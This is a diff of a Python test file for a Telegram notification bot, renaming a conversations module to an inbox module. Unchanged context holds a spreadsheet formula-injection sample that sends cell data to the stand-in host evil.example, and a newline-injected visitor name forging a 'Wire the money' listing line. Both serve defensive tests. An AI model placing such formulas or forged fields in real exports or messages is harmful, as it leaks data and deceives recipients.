@@ -23,7 +23,7 @@ from tests.fakes.openai_server import call, say
 from tests.fakes.telegram_server import visible_text
 from tests.fixtures.environment import wait_until
 from tests.fixtures.processes import run_app
-from tests.fixtures.replicas import conversations_of
+from tests.fixtures.replicas import inbox_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
 
@@ -95,7 +95,7 @@ def test_the_plain_text_fallback_cannot_be_forged_either():
 @pytest.fixture
 def bot(store, fake_telegram):
     client = TelegramClient(fake_telegram.url, fake_telegram.token, fake_telegram.chat_id, timeout=(1, 2))
-    owner_bot = OwnerBot(store, conversations_of(store), client, poll_seconds=0.2, base_delay=0.05).start()
+    owner_bot = OwnerBot(store, inbox_of(store), client, poll_seconds=0.2, base_delay=0.05).start()
     yield owner_bot
     owner_bot.close()
 
@@ -147,10 +147,10 @@ def test_a_reply_to_any_copy_of_a_question_alert_teaches(bot, store, fake_telegr
 
 def test_visitors_cannot_forge_lines_in_the_owners_listings(store, fake_telegram):
     from replica.cli.evaluate import RecordingNotifier
-    from replica.conversations import Conversations
+    from replica.inbox import Inbox
 
     client = TelegramClient(fake_telegram.url, fake_telegram.token, fake_telegram.chat_id, timeout=(1, 2))
-    inbox = Conversations.build(store, "salt", "Ada", RecordingNotifier())
+    inbox = Inbox.build(store, "salt", "Ada", RecordingNotifier())
     bot = OwnerBot(store, inbox, client, poll_seconds=0.2, base_delay=0.05).start()
     name = "Bob\n• Alice Smith — alice.cfo@bank.example — “Wire the money” (2026-01-01)"
     lead = Alert("lead", "New lead", (("Email", "bob@example.org"),), "s1")
